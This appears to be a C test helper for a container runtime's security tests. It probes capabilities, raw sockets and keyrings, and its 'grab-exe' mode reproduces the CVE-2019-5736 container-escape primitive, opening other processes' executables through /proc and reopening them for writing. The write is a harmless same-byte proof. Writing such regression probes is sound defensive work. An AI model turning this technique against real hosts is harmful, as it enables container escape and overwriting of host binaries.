// escape-probe: what a hostile process inside a container tries, for the
// bats escape and capability tests (tests/integration/security.bats,
// capabilities.bats). Built static by those tests (gcc -static) and copied
// into a bundle's rootfs, as notify.bats does with sd-notify.c.
//
//   escape-probe ids
//       prints "uid=R euid=E gid=G egid=EG"
//   escape-probe caps
//       prints the Cap* lines of its own /proc/self/status (after a setuid
//       exec they are the new credentials', which a shell would not show)
//   escape-probe raw-socket
//       opens an AF_INET SOCK_RAW ICMP socket (needs CAP_NET_RAW); exit 0
//       and "raw-socket ok", or exit 1 and the error
//   escape-probe keyring
//       prints "keyring SERIAL DESCRIPTION" of its session keyring
//       (DESCRIPTION is keyctl's "type;uid;gid;perm;name"), or
//       "keyring none" when it has none; exit 2 without keyrings (ENOSYS)
//   escape-probe grab-exe OUT STOP
//       CVE-2019-5736: until the file STOP exists, scans /proc for other
//       processes, notes each ("seen PID COMM"), opens /proc/PID/exe with
//       O_PATH ("grabbed PID COMM TARGET") and tries to reopen every fd it
//       holds for writing through /proc/self/fd/N, as the exploit does once
//       the runtime has stopped executing its binary (ETXTBSY is gone). A
//       reopen that works writes back the first byte of the file unchanged
//       ("WROTE PID TARGET"): proof of the hole without damaging the binary.
//       After STOP, one last round, "done", and it sleeps: it may be a
//       container's init, and its exit would end the pid namespace.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MAX_PIDS 4096

struct grabbed {
    int pid;
    int fd;
    int last_errno;
    int wrote;
    char comm[32];
    char target[256];
};

static struct grabbed held[MAX_PIDS];
static int n_held;
static FILE *out;

static void note(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void note(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    vfprintf(out, fmt, ap);
    va_end(ap);
    fflush(out);
}

static void read_comm(int pid, char *buf, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    snprintf(buf, size, "?");
    FILE *f = fopen(path, "re");
    if (!f) return;
    if (fgets(buf, (int)size, f)) buf[strcspn(buf, "\n")] = 0;
    fclose(f);
}

static int is_held(int pid) {
    for (int i = 0; i < n_held; ++i)
        if (held[i].pid == pid) return 1;
    return 0;
}

// A pid is reported once when first seen; its exe is tried on every scan
// until it opens (the process may still be on its way into the runtime).
static unsigned char seen[1 << 22];

static void scan(void) {
    DIR *proc = opendir("/proc");
    if (!proc) return;
    struct dirent *e;
    while ((e = readdir(proc))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid() || pid >= (int)sizeof seen || is_held(pid)) continue;
        char comm[32];
        read_comm(pid, comm, sizeof comm);
        if (!seen[pid]) {
            seen[pid] = 1;
            note("seen %d %s\n", pid, comm);
        }
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0 || n_held == MAX_PIDS) {
            if (fd >= 0) close(fd);
            continue;
        }
        struct grabbed *g = &held[n_held++];
        g->pid = pid;
        g->fd = fd;
        snprintf(g->comm, sizeof g->comm, "%s", comm);
        ssize_t n = readlink(path, g->target, sizeof g->target - 1);
        g->target[n > 0 ? n : 0] = 0;
        note("grabbed %d %s %s\n", pid, comm, g->target);
    }
    closedir(proc);
}

static void try_write(struct grabbed *g) {
    if (g->wrote) return;  // once is proof enough
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", g->fd);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    int r = open(path, O_RDONLY | O_CLOEXEC);
    char byte;
    int err = 0;
    if (w < 0) {
        err = errno;
    } else if (r < 0 || pread(r, &byte, 1, 0) != 1 || pwrite(w, &byte, 1, 0) != 1) {
        err = errno ? errno : EIO;
    } else {
        note("WROTE %d %s %s\n", g->pid, g->comm, g->target);
        g->wrote = 1;
    }
    if (err && err != g->last_errno) note("write-refused %d %s: %s\n", g->pid, g->target, strerror(err));
    g->last_errno = err;
    if (w >= 0) close(w);
    if (r >= 0) close(r);
}

static int grab_exe(const char *out_path, const char *stop_path) {
    out = fopen(out_path, "we");
    if (!out) {
        perror(out_path);
        return 1;
    }
    note("started %d\n", getpid());
    while (access(stop_path, F_OK) != 0) {
        scan();
        for (int i = 0; i < n_held; ++i) try_write(&held[i]);
        sched_yield();
    }
    for (int i = 0; i < n_held; ++i) try_write(&held[i]);
    note("done\n");
    for (;;) pause();
}

static int caps(void) {
    FILE *f = fopen("/proc/self/status", "re");
    if (!f) {
        perror("/proc/self/status");
        return 1;
    }
    char line[256];
    while (fgets(line, sizeof line, f))
        if (strncmp(line, "Cap", 3) == 0) fputs(line, stdout);
    fclose(f);
    return 0;
}

static int raw_socket(void) {
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd < 0) {
        printf("raw-socket: %s\n", strerror(errno));
        return 1;
    }
    printf("raw-socket ok\n");
    return 0;
}

static int keyring(void) {
    const long session = -3;  /* KEY_SPEC_SESSION_KEYRING */
    long serial = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, session, 0);
    if (serial < 0 && errno == ENOSYS) return 2;
    if (serial < 0) {
        printf("keyring none\n");
        return 0;
    }
    char description[512] = {0};
    if (syscall(SYS_keyctl, 6 /* DESCRIBE */, serial, description, sizeof description - 1) < 0) {
        perror("keyctl describe");
        return 1;
    }
    printf("keyring %ld %s\n", serial, description);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 2 && strcmp(argv[1], "ids") == 0) {
        printf("uid=%d euid=%d gid=%d egid=%d\n", getuid(), geteuid(), getgid(), getegid());
        return 0;
    }
    if (argc == 2 && strcmp(argv[1], "caps") == 0) return caps();
    if (argc == 2 && strcmp(argv[1], "raw-socket") == 0) return raw_socket();
    if (argc == 2 && strcmp(argv[1], "keyring") == 0) return keyring();
    if (argc == 4 && strcmp(argv[1], "grab-exe") == 0) return grab_exe(argv[2], argv[3]);
    fprintf(stderr, "usage: escape-probe ids | caps | raw-socket | keyring | grab-exe OUT STOP\n");
    return 2;
}
